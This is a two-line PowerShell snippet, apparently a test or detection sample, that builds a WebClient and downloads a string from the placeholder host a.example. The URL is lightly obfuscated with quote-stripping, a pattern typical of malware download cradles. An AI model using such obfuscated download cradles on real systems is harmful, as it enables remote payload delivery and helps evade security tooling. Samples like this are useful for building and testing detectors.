$wc = New-Object System.Net.WebClient
$wc.DownloadString('http://a.example/''x'.Replace('''',''))
